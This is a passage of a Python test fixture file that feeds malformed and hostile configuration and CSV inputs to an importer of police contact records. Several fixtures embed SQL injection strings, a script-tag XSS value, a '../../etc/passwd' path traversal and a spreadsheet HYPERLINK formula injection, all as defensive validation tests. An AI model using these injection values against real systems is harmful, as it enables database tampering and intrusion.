    agency_a_number=mapped(MAPPING.replace('"TEST"', "5")),
    agency_name_hostile=mapped(
        MAPPING.replace("[agency]", '[agency]\nagency_name = "<script>x()</script>\'; --"')
    ),
    agency_name_long=mapped(
        MAPPING.replace("[agency]", f'[agency]\nagency_name = "{"x" * 100_000}"')
    ),
    agency_name_control=mapped(
        MAPPING.replace("[agency]", '[agency]\nagency_name = "a\\u0007\\u202eb"')
    ),
    source_hostile=mapped(MAPPING.replace('"forms"', '"x\'; DROP TABLE contacts; --"')),
    source_long=mapped(MAPPING.replace('"forms"', f'"{"x" * 100_000}"')),
    source_empty=mapped(MAPPING.replace('"forms"', '""')),
    formats_wrong=mapped(
        MAPPING.replace("not_recorded", 'datetime_formats = ["%Q"]\nnot_recorded')
    ),
    formats_of_sql=mapped(
        MAPPING.replace(
            "not_recorded", 'datetime_formats = ["%Y\'); DROP TABLE x; --"]\nnot_recorded'
        )
    ),
    formats_long=mapped(
        MAPPING.replace("not_recorded", f'datetime_formats = ["{"%Y" * 5000}"]\nnot_recorded')
    ),
    formats_numbers=mapped(
        MAPPING.replace("not_recorded", "datetime_formats = [1, 2]\nnot_recorded")
    ),
    delimiter_long=mapped(MAPPING + '[file]\ndelimiter = "ab"\n'),
    delimiter_a_quote=mapped(MAPPING + "[file]\ndelimiter = '\"'\n"),
    delimiter_nul=mapped(MAPPING + '[file]\ndelimiter = "\\u0000"\n'),
    delimiter_an_emoji=mapped(MAPPING + '[file]\ndelimiter = "💥"\n'),
    delimiter_a_letter=mapped(MAPPING + '[file]\ndelimiter = "o"\n'),
    delimiter_a_newline=mapped(MAPPING + '[file]\ndelimiter = "\\n"\n'),
    encoding_unknown=mapped(MAPPING + '[file]\nencoding = "rot13"\n'),
    format_unknown=mapped(MAPPING + '[file]\nformat = "pickle"\n'),
    format_excel_of_csv=mapped(MAPPING + '[file]\nformat = "excel"\n'),
    format_parquet_of_csv=mapped(MAPPING + '[file]\nformat = "parquet"\n'),
    sheet_a_number=mapped(MAPPING + "[file]\nsheet = 3\n"),
    hours_wrong=mapped(
        MAPPING + '[contacts.columns.shift_id]\nfrom = "When"\nhours = { a = "x" }\n'
    ),
    hours_of_sql=mapped(
        MAPPING + '[contacts.columns.shift_id]\nfrom = "When"\nhours = { "a\'; --" = "0-24" }\n'
    ),
    constant_of_sql=mapped(
        MAPPING + '[contacts.columns.shift_id]\nconstant = "x\'; DROP TABLE contacts; --"\n'
    ),
    constant_long=mapped(MAPPING + f'[contacts.columns.shift_id]\nconstant = "{"x" * 100_000}"\n'),
    constant_a_table=mapped(MAPPING + "[contacts.columns.shift_id]\nconstant = { a = 1 }\n"),
    unknown_table=mapped(MAPPING + "[weather]\n"),
    unknown_column=mapped(MAPPING.replace("district_id", "soul")),
    unknown_setting=mapped(MAPPING.replace("not_recorded", "exec")),
    a_system_table=mapped(MAPPING + '[loads.columns]\nload_id = "Form"\n'),
    a_hostile_table=mapped(MAPPING + '["x\'; DROP TABLE y"]\n'),
    infinity_as_day=mapped(MAPPING + "recorded_from = inf\n"),
    first_day=mapped(MAPPING + "recorded_from = 0001-01-01\n"),
    last_day=mapped(MAPPING + "recorded_from = 9999-12-31\n"),
)

# Our own template, filled in wrongly
_OWN = "agency_id,contact_id,contact_at,district_id,primary_officer_cit,force_used\n"
_ROWS = "".join(f"T,K{i:03d},2024-03-{i % 28 + 1:02d} 10:00,A,yes,no\n" for i in range(40))


def own(**tables: str) -> Maker:
    def make(folder: Path) -> Made:
        named = []
        for table, text in tables.items():
            (folder / f"{table}.csv").write_text(text, encoding="utf-8")
            named.append(folder / f"{table}.csv")
        return list(named), CANONICAL

    return make


add(
    "template",
    good=own(contacts=_OWN + _ROWS),
    empty=own(contacts=_OWN),
    another_table=own(contacts="agency_id,officer_key,rank\nT,7,officer\n"),
    unknown_file=own(weather=_OWN + _ROWS),
    two_agencies=own(contacts=_OWN + _ROWS + "U,K999,2024-03-01 10:00,A,yes,no\n"),
    no_agency=own(contacts=_OWN.replace("agency_id,", "") + _ROWS.replace("T,", "")),
    hostile_agency=own(contacts=_OWN + _ROWS.replace("T,", "x'; DROP TABLE y; --,")),
    blank_agency=own(contacts=_OWN + _ROWS.replace("T,", ",")),
    bad_zone=own(
        contacts=_OWN + _ROWS,
        agencies="agency_id,agency_name,time_zone\nT,Testville,../../etc/passwd\n",
    ),
    hostile_name=own(
        contacts=_OWN + _ROWS,
        agencies='agency_id,agency_name\nT,"=HYPERLINK(""http://zq.invalid"")"\n',
    ),
    children_alone=own(referrals="agency_id,contact_id,referral_id,provider_id\nT,K1,R1,P1\n"),
    children_of_nobody=own(
        contacts=_OWN + _ROWS,
        referrals="agency_id,contact_id,referral_id,provider_id\nT,K777,R1,P1\n",
    ),
    numbers_too_large=own(
        contacts=_OWN + _ROWS,
        force_events="agency_id,contact_id,force_id,seq,category\nT,K001,F1,99999999999999999999,takedown_injury\n",
    ),
    negative_numbers=own(
        contacts=_OWN + _ROWS,
        force_events="agency_id,contact_id,force_id,seq,category\nT,K001,F1,-1,takedown_injury\n",
    ),
    money_overflow=own(
        contacts=_OWN + _ROWS,
        claims="agency_id,claim_id,claim_kind\nT,C1,tort\n",
        claim_valuations="agency_id,claim_id,valued_on,paid_total\nT,C1,2024-01-01,1e300\n",
    ),
    a_system_column=own(contacts=_OWN.replace("force_used", "load_id") + _ROWS),
    yes_no_of_anything=own(contacts=_OWN + _ROWS.replace(",no", ",maybe")),
    dates_the_wrong_way=own(
        contacts=_OWN + _ROWS,
        certifications="agency_id,officer_key,credential,certified_on,expires_on\nT,7,cit_40h,2024-01-01,1990-01-01\n",
    ),
)
